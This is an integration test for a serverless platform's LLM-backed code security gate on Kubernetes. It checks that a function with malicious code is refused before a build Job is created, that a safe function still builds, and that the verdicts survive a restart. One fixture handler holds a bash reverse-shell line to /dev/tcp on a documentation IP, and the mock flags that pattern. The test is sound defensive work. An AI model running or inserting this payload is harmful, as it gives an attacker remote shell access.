/**
 * The code security gate on the kube platform, against the real kube-apiserver + etcd, S3 and a git
 * server: the refused function gets no kaniko Job and no build context in S3, its status says
 * `code validation failed: <reason>`, and the function beside it builds as usual. The LLM is a local
 * server speaking the chat-completions wire format (no model runs here).
 */
import { join } from 'node:path';
import { ListObjectsV2Command } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CodeGateSettings, loadCodeGateSettings } from '../../src/config/code-gate.js';
import { buildName } from '../../src/core/naming.js';
import type { FunctionStatus } from '../../src/core/resources.js';
import { type KubeSystem, startKubeSystem } from '../../src/main.js';
import { getObject, type KubeObject, listObjects } from '../../src/platform/kube/objects.js';
import { CONFIG_MAP, JOB } from '../../src/platform/kube/resource-types.js';
import {
  type ChatCompletionsServer,
  sentCode,
  startChatCompletionsServer,
} from '../helpers/chat-completions-server.js';
import { functionManifest, git, gitSource, nodeHandler, TestRepo, tempDir } from '../helpers/git.js';
import { startGitHttpServer } from '../helpers/git-http-server.js';
import {
  eventually,
  fakeDigest,
  type KubeEnv,
  kubeEnv,
  logger,
  markBuildSucceeded,
  playHealthyKubelet,
} from './harness.js';

describe('kube platform: code security gate', () => {
  let env: KubeEnv;
  let llm: ChatCompletionsServer;
  let work: TestRepo;
  let gitServer: Awaited<ReturnType<typeof startGitHttpServer>>;
  let system: KubeSystem;
  let commit: string;
  let codeGate: CodeGateSettings;

  const status = async (name: string) =>
    (await system.store.get('Function', env.ns, name))?.status as FunctionStatus | undefined;

  beforeAll(async () => {
    env = await kubeEnv('gate');
    llm = await startChatCompletionsServer();
    llm.answer = (request) =>
      sentCode(request).includes('/dev/tcp/')
        ? { verdict: { safe: false, reason: 'opens a reverse shell to a remote host' } }
        : { verdict: { safe: true, reason: 'an ordinary handler' } };
    const root = await tempDir('kube-gate-git');
    await git(root, 'init', '--quiet', '--bare', '--initial-branch=main', 'fns.git');
    gitServer = await startGitHttpServer(root);
    work = await TestRepo.create({
      'good/function.yaml': functionManifest('good'),
      'good/handler.js': nodeHandler(`return 'good';`),
      'shell/function.yaml': functionManifest('shell'),
      'shell/handler.js': nodeHandler(
        `require('child_process').exec('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1');`,
      ),
    });
    await git(work.dir, 'remote', 'add', 'origin', join(root, 'fns.git'));
    await git(work.dir, 'push', '--quiet', 'origin', 'main');
    commit = await git(work.dir, 'rev-parse', 'HEAD');
    codeGate = loadCodeGateSettings({ LLM_ENABLED: 'true', LLM_ENDPOINT: llm.url, LLM_TIMEOUT: '10s' });
    system = await startKubeSystem(
      { ...env.config, codeGate },
      { logger, kubeConfig: env.cluster.kubeConfig, pollMs: 100 },
    );
    await system.store.apply(gitSource('repo', env.ns, `${gitServer.url}/fns.git`));
  });

  afterAll(async () => {
    await system?.stop();
    await llm?.close();
    await gitServer?.close();
    await work?.remove();
    await env?.close();
  });

  it('refuses the unsafe function before its kaniko Job, and builds the safe one', async () => {
    const refused = await eventually('shell refused', async () => {
      const s = await status('shell');
      return s?.conditions?.some((c) => c.type === 'Ready' && c.reason === 'CodeValidationFailed')
        ? s
        : undefined;
    });
    expect(refused.phase).toBe('Failed');
    expect(refused.lastError).toBe('code validation failed: opens a reverse shell to a remote host');
    expect(refused.conditions?.find((c) => c.type === 'Ready')?.message).toBe(
      'code validation failed: opens a reverse shell to a remote host',
    );
    // The safe function's Job exists: the controller got as far as building.
    await eventually('good build Job', () =>
      getObject<KubeObject>(env.http, JOB, env.controllerNs, buildName('good', commit)),
    );
    const shellJobs = await listObjects<KubeObject>(env.http, JOB, {
      namespace: env.controllerNs,
      labels: { 'sless.dev/function': 'shell' },
    });
    expect(shellJobs.items).toHaveLength(0);
    const contexts = await env.s3.send(new ListObjectsV2Command({ Bucket: env.bucket, Prefix: 'contexts/' }));
    const keys = (contexts.Contents ?? []).map((o) => o.Key);
    expect(keys).toEqual([`contexts/${env.ns}/good/${commit}.tar.gz`]);
    expect(llm.requests.map((r) => sentCode(r).split('\n')[0]).sort()).toEqual([
      '=== handler.js ===',
      '=== handler.js ===',
    ]);
  });

  it('keeps its verdicts across a restart: the refused code is not sent again and reads the same', async () => {
    const before = await status('shell');
    // Let the safe function finish (kaniko and the kubelet played), so the controller can go idle.
    await markBuildSucceeded(env.http, env.controllerNs, buildName('good', commit), fakeDigest('good'));
    const stopKubelet = playHealthyKubelet(env.http, env.ns);
    try {
      await eventually('good Ready', async () => (await status('good'))?.phase === 'Ready');
      const verdicts = await listObjects<KubeObject>(env.http, CONFIG_MAP, {
        namespace: env.controllerNs,
        labels: { 'app.kubernetes.io/component': 'code-verdict' },
      });
      expect(verdicts.items).toHaveLength(2);
      await system.stop();
      system = await startKubeSystem(
        { ...env.config, codeGate },
        { logger, kubeConfig: env.cluster.kubeConfig, pollMs: 100 },
      );
      // The positive signal: the new controller reconciled every function once and went idle.
      await system.controller.syncNow(env.ns, 'repo', { force: true });
      await system.controller.idle();
      expect(llm.requests).toHaveLength(2);
      expect(await status('shell')).toEqual(before);
    } finally {
      stopKubelet();
    }
  });
});
